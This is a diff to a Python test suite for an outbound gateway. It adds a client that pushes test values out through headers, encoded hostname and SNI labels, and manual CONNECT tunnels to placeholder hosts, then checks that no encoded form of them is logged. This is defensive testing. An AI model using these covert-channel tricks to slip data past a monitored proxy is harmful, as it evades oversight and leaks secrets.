@@ -1,5 +1,6 @@
 """The gate killed under load, its evidence afterwards, and what may never be written anywhere."""
 
+import base64
 import http.client
 import json
 import os
@@ -224,7 +225,29 @@ NAMING = {
 }
 """Values that stand where names do."""
 _NAMING_CLIENT = """
-import json, sys, urllib.parse, urllib.request as u
+import base64, json, os, socket, ssl, sys, urllib.parse, urllib.request as u
+proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+def plain(text):
+    return "".join(c if c.isalnum() else "-" for c in text)[:60].strip("-").lower()
+def labels(v):
+    yield plain(v)
+    yield base64.b32encode(v.encode()).decode().rstrip("=").lower()
+    yield v.encode().hex()
+    yield base64.urlsafe_b64encode(v.encode()).decode().rstrip("=")
+def tunnel(host, sni, named, headers):
+    # Through the gate by hand: each name of the destination may be another one.
+    try:
+        with socket.create_connection((proxy.hostname, proxy.port), 20) as s:
+            s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n{headers}\\r\\n".encode())
+            if b" 200 " not in s.recv(4096):
+                return
+            context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+            context.check_hostname = False
+            with context.wrap_socket(s, server_hostname=sni) as t:
+                t.sendall(f"POST /{sni} HTTP/1.1\\r\\nHost: {named}\\r\\n{headers}Content-Length: 1\\r\\n\\r\\nx".encode())
+                t.recv(4096)
+    except OSError:
+        pass
 def post(url, body, kind, **headers):
     request = u.Request(url, data=body, headers={"Content-Type": kind, **headers})
     try:
@@ -247,7 +270,28 @@ for v in json.load(open(sys.argv[1])):
     post("https://api.openai.com/v1/chat/completions", json_of(call), "application/json", **named)
     post("https://files.example/x", v.encode(), f"text/{v}", **{"Content-Encoding": v})
     post(f"https://{v.replace('@', '.').replace('+', '').replace(' ', '')[:60]}.files.example/", b"x", "text/plain")
+    told = {"User-Agent": v, "Referer": f"https://a.example/{q}?u={q}", "Cookie": f"s={v}; {q}=1",
+            "X-Forwarded-For": v, "From": v, "Idempotency-Key": v, "Traceparent": v, "Via": v,
+            "Authorization": f"Bearer {v}", "Baggage": f"user={q}", "X-Note": v.encode().hex(),
+            "Origin": f"https://{plain(v)}.example", "X-Amz-Target": v, "Range": f"bytes={v}"}
+    post("https://files.example/x", b"{}", "application/json", **told)
+    post("http://files.example/x", b"{}", "application/json", **told)
+    lines = "".join(f"{name}: {value}\\r\\n" for name, value in told.items())
+    lines += f"Proxy-Authorization: Basic {base64.b64encode(v.encode()).decode()}\\r\\n"
+    for label in filter(lambda one: len(one) < 64, labels(v)):
+        tunnel(f"{label}.files.example", f"{label}.sni.example", f"{label}.host.example", lines)
+        tunnel("127.0.0.1", f"{label}.sni.example", f"a.{label}", lines)
+        tunnel(f"a.{label}.example", "files.example", f"files.example\\r\\nHost: {label}.example", "")
+        post(f"http://{label}.files.example/{label}", b"x", "text/plain")
 """
+
+
+def spellings_of(value: str) -> set[str]:
+    """Return how a value is written in names of hosts, paths and headers."""
+    data = value.encode()
+    base32 = base64.b32encode(data).decode().rstrip("=")
+    coded = {base32, base32.lower(), base64.urlsafe_b64encode(data).decode().rstrip("=")}
+    return {value, value.lower(), value.replace(" ", ""), quote(value), data.hex()} | coded
 
 
 def unpack(path: Path) -> None:
@@ -264,7 +308,8 @@ def unpack(path: Path) -> None:
 
 
 def test_no_name_of_a_payload_is_written_in_clear(outgate: Outgate) -> None:
-    """Values that stand as keys, columns, files, models, tools, paths, types and hosts are in no
+    """Values that stand as keys, columns, files, models, tools, paths, types, headers and names of
+    hosts (asked for, in the handshake, in the request; encoded, too) are in no
     file, compressed content and database cells included, on no screen, and in no export."""
     values = outgate.folder / "values.json"
     values.write_text(json.dumps(list(NAMING.values())))
@@ -300,12 +345,14 @@ def test_no_name_of_a_payload_is_written_in_clear(outgate: Outgate) -> None:
     written = [p for p in [*outgate.home.rglob("*"), *unpacked] if p.is_file()]
     told = [(str(p), piece) for p in written for piece in all_in(p)]
     told += [("a screen", text) for text in shown]
-    for name, value in NAMING.items():
-        spellings = {value, value.lower(), value.replace(" ", ""), quote(value)}
-        for spelling in spellings:
-            found = {where for where, piece in told if spelling.encode() in piece}
-            assert found == set(), f"{name} in {found}"
-            assert not [p for p in written if spelling in str(p)]
+    found = {
+        (name, spelling, where)
+        for name, value in NAMING.items()
+        for spelling in spellings_of(value)
+        for where, piece in told
+        if spelling.encode() in piece or spelling in where
+    }
+    assert found == set()
 
 
 def test_the_search_looks_into_what_is_compressed(tmp_path: Path) -> None:
